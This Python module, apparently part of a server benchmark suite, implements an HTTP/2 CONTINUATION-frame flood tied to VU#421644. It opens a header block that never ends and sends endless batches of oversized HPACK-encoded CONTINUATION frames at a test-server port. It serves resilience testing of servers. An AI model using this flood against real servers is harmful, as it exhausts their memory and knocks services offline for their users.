"""Headers that never end: a flood of continuation frames (VU#421644)."""

from __future__ import annotations

from collections.abc import Iterator

from bench.attacks.connections import one_by_one
from tests.server import frames
from tests.server.connection import RawConnection

VALUE_BYTES = 16_000
FRAMES_PER_STEP = 100


def steps(port: int) -> Iterator[None]:
    """Send ``FRAMES_PER_STEP`` frames with a header of ``VALUE_BYTES`` each in each step."""
    return one_by_one(port, _flood)


def _flood(wire: RawConnection) -> Iterator[None]:
    wire.send(frames.headers(1, frames.TRANSLATE, 0))
    # A literal without indexing (RFC 7541): the length has a prefix of 7 bits.
    length = VALUE_BYTES - 127
    field = b"\0\1x\x7f" + bytes([length % 128 | 128, length // 128]) + b"x" * VALUE_BYTES
    while True:
        for _ in range(FRAMES_PER_STEP):
            wire.send(frames.frame(frames.CONTINUATION, 0, 1, field))
        yield
